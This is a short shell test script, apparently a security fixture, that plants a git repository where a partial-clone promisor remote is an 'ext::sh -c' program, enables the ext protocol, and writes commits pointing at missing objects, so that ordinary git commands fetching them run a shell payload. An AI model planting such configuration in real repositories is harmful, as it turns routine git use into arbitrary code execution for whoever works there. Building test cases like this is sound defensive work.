#!/bin/sh
# A partial clone whose missing objects come from a remote that is a program
# (ext::), by URL, instead-of and helper.
. "$(dirname "$0")/lib.sh" <<'AGENT'
git config extensions.partialClone origin
git config remote.origin.promisor true
git config remote.origin.partialCloneFilter blob:none
git config remote.origin.url "ext::sh -c '$PAYLOAD'"
git config url."ext::sh -c '$PAYLOAD' ".insteadOf /
git config protocol.allow always
git config protocol.ext.allow always
git commit -q --allow-empty -m one
missing=0123456789012345678901234567890123456789
git cat-file commit HEAD | sed "s/^tree .*/tree $missing/" | git hash-object -t commit -w --stdin --literally >.git/refs/heads/orch
planted 'a commit with a tree that is not there'
echo $missing >.git/refs/heads/other
echo "$missing" >.git/shallow
AGENT
attack
